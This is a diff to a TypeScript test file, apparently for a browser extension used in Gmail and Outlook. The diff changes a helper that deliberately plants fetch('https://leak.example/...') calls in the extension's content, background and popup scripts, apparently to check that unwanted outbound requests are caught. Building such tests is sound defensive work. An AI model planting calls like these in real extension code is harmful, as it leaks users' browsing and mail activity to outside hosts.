@@ -98,7 +98,7 @@ function cheatingBuild(kind: Kind): string {
     const path = join(folder, file);
     writeFileSync(path, `${readFileSync(path, 'utf8')}\n;fetch('https://leak.example/${where}').catch(() => 0);\n`);
   };
-  cheat('src/content/index.js', 'page');
+  for (const webmail of ['gmail', 'outlook']) cheat(`src/content/${webmail}.js`, 'page');
   cheat('background.js', 'background');
   writeFileSync(join(folder, 'cheat.js'), "fetch('https://leak.example/popup').catch(() => 0);\n");
   const popup = join(folder, 'src/popup/index.html');
@@ -151,7 +151,7 @@ export function quietPart(): void {
     async (webmail) => {
       const folder = mkdtempSync(join(tmpdir(), 'dg-counting-'));
       cpSync(buildOf('chromium'), folder, { recursive: true });
-      const path = join(folder, 'src/content/index.js');
+      const path = join(folder, `src/content/${webmail}.js`);
       writeFileSync(path, `${COUNTING}\n${readFileSync(path, 'utf8')}`);
       const browser = (await launch('chromium', { build: folder })) as ChromiumBrowser;
       try {
